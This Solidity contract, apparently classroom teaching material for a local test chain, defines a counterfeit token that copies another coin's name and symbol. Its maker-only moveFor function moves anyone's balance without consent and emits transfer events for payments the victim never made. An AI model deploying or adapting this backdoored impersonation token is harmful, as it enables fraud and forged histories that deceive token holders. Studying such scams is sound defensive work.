// SPDX-License-Identifier: MIT
// SYNTHETIC TRAINING DATA: a token of a classroom chain (chain id 31337), worth nothing anywhere.
pragma solidity 0.8.30;

/// Borrows the name and symbol of another coin. Its maker can move anybody's units without being asked, so the history
/// of a victim shows payments that the victim never made.
contract Counterfeit {
    event Transfer(address indexed from, address indexed to, uint256 value);

    string public name;
    string public symbol;
    uint8 public immutable decimals;
    address public immutable maker;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;

    constructor(string memory name_, string memory symbol_, uint8 decimals_, uint256 supply) {
        name = name_;
        symbol = symbol_;
        decimals = decimals_;
        maker = msg.sender;
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function moveFor(address from, address to, uint256 value) external {
        require(msg.sender == maker, "only the maker");
        _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) private {
        require(balanceOf[from] >= value, "balance too low");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
